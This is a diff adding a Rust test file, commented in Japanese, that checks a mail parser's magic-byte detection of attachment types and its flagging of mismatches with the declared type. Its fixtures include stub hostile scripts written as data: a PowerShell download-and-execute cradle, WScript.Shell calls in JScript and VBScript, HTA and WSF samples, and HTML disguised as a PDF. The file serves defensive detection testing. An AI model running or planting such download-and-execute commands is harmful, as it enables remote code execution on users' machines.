@@ -0,0 +1,175 @@
+// =========================
+// tests/filetype_detection.rs
+// マジックバイトによるファイル種別判定の結合テスト
+//
+// 【役割】
+// - 非テキストパートの実際の種別がログ・JSONに出力されることを確認
+// - 宣言（Content-Type・拡張子）と実際の種別の不一致が検出されることを確認
+// - 宣言どおりの添付・種別不明の添付では不一致を出さないことを確認
+// - PEシグネチャの無いMZヘッダはPEとしないことを確認
+// - text/*で送られた添付（JScript・VBScript・PowerShell・HTA・WSF・HTML）も判定されることを確認
+// =========================
+
+mod common;
+
+use common::{attachment, base64, multipart, run_one, Message, MIXED};
+use serde_json::Value;
+
+/// DOSヘッダ（e_lfanew=0x40）とPEシグネチャ（pe=falseならシグネチャ無し）
+fn mz_header(pe: bool) -> Vec<u8> {
+    let mut data = vec![0u8; 0x48];
+    data[..2].copy_from_slice(b"MZ");
+    data[0x3C] = 0x40; // e_lfanew
+    if pe {
+        data[0x40..0x44].copy_from_slice(b"PE\0\0");
+    }
+    data
+}
+
+/// 本文パートの後に添付を並べたメールを1通送信し、ログとJSONレコードを返す
+fn run_attachments(parts: &[String]) -> (String, Value) {
+    let mut all = vec!["--XX\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n".to_string()];
+    all.extend_from_slice(parts);
+    let body = multipart(&all);
+    run_one(
+        "",
+        &Message {
+            headers: MIXED,
+            body: &body,
+            ..Message::default()
+        },
+    )
+}
+
+#[test]
+fn declared_types_are_checked_against_magic_bytes() {
+    let (log, record) = run_attachments(&[
+        attachment(
+            "application/pdf",
+            Some("invoice.pdf"),
+            &base64(&mz_header(true)),
+        ), // 中身はPE
+        attachment("application/octet-stream", None, "UEsDBBQAAAAIAA=="), // 中身はZIP
+        attachment("application/pdf", Some("report.pdf"), "JVBERi0xLjQK"), // 宣言どおり
+        attachment(
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+            Some("letter.docx"),
+            "UEsDBBQAAAAIAFtDb250ZW50X1R5cGVzXS54bWw=",
+        ), // OOXML
+        attachment("application/octet-stream", Some("blob.dat"), "AAEC"), // 種別不明
+    ]);
+
+    // ログ出力
+    for line in [
+        "[mail-parser] ファイル種別(1): pe",
+        "[mail-parser] 種別不一致(1): content_type=application/pdf 実際=pe",
+        "[mail-parser] 種別不一致(1): extension=pdf 実際=pe",
+        "[mail-parser] ファイル種別(2): zip",
+        "[mail-parser] 種別不一致(2): content_type=application/octet-stream 実際=zip",
+        "[mail-parser] ファイル種別(3): pdf",
+        "[mail-parser] ファイル種別(4): ooxml",
+    ] {
+        assert!(log.contains(line), "{} がありません\n{}", line, log);
+    }
+    assert!(!log.contains("種別不一致(3)"), "{}", log);
+    assert!(!log.contains("種別不一致(4)"), "{}", log);
+    assert!(!log.contains("ファイル種別(5)"), "{}", log);
+
+    // JSON出力
+    let attachments = &record["attachments"];
+    assert_eq!(attachments[0]["detected_type"], "pe");
+    let mismatches = attachments[0]["type_mismatches"].as_array().unwrap();
+    assert_eq!(mismatches.len(), 2);
+    assert_eq!(mismatches[0]["field"], "content_type");
+    assert_eq!(mismatches[0]["declared"], "application/pdf");
+    assert_eq!(mismatches[1]["field"], "extension");
+    assert_eq!(mismatches[1]["declared"], "pdf");
+    assert_eq!(mismatches[1]["detected"], "pe");
+    assert_eq!(attachments[1]["type_mismatches"][0]["detected"], "zip");
+    assert_eq!(attachments[2]["type_mismatches"], Value::Array(vec![]));
+    assert!(attachments[4]["detected_type"].is_null());
+}
+
+#[test]
+fn mz_header_without_pe_signature_is_not_pe() {
+    let (log, record) = run_attachments(&[attachment(
+        "application/pdf",
+        Some("invoice.pdf"),
+        &base64(&mz_header(false)),
+    )]);
+    assert!(!log.contains("ファイル種別(1)"), "{}", log);
+    assert!(record["attachments"][0]["detected_type"].is_null());
+}
+
+#[test]
+fn text_scripts_and_html_attachments_are_sniffed() {
+    let scripts = [
+        (
+            "text/plain",
+            "invoice.js",
+            "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"cmd\");\r\n",
+        ),
+        (
+            "application/octet-stream",
+            "run.vbs",
+            "Set s = CreateObject(\"WScript.Shell\")\r\n",
+        ),
+        (
+            "text/plain",
+            "update.ps1",
+            "IEX(New-Object Net.WebClient).DownloadString('http://x')\r\n",
+        ),
+        (
+            "text/html",
+            "page.hta",
+            "<html><head><HTA:APPLICATION ID=\"app\"></head></html>\r\n",
+        ),
+        (
+            "text/xml",
+            "job.wsf",
+            "<job id=\"a\"><script language=\"JScript\">x();</script></job>\r\n",
+        ),
+        ("text/html", "page.html", "<!DOCTYPE html><p>hello</p>\r\n"),
+        (
+            "text/plain",
+            "report.pdf",
+            "<html><body>login</body></html>\r\n",
+        ),
+        ("text/plain", "notes.txt", "just notes\r\n"),
+    ];
+    let parts: Vec<String> = scripts
+        .iter()
+        .map(|(ct, name, text)| attachment(ct, Some(name), &base64(text.as_bytes())))
+        .collect();
+    let (log, record) = run_attachments(&parts);
+
+    // text/*で送られた添付も判定され、宣言との不一致が出る
+    for line in [
+        "[mail-parser] ファイル種別(1): script",
+        "[mail-parser] 種別不一致(1): content_type=text/plain 実際=script",
+        "[mail-parser] ファイル種別(2): script",
+        "[mail-parser] 種別不一致(2): content_type=application/octet-stream 実際=script",
+        "[mail-parser] ファイル種別(3): script",
+        "[mail-parser] ファイル種別(4): script",
+        "[mail-parser] 種別不一致(4): content_type=text/html 実際=script",
+        "[mail-parser] ファイル種別(5): script",
+        "[mail-parser] ファイル種別(6): html",
+        "[mail-parser] ファイル種別(7): html",
+        "[mail-parser] 種別不一致(7): extension=pdf 実際=html",
+    ] {
+        assert!(log.contains(line), "{} がありません\n{}", line, log);
+    }
+    // 拡張子は正当なスクリプト・HTMLの拡張子として扱う
+    for n in 1..=6 {
+        assert!(
+            !log.contains(&format!("種別不一致({}): extension=", n)),
+            "{}",
+            log
+        );
+    }
+    assert!(!log.contains("ファイル種別(8)"), "{}", log);
+    let attachments = record["attachments"].as_array().unwrap();
+    assert_eq!(attachments.len(), 8);
+    assert_eq!(attachments[0]["detected_type"], "script");
+    assert_eq!(attachments[5]["type_mismatches"], Value::Array(vec![]));
+}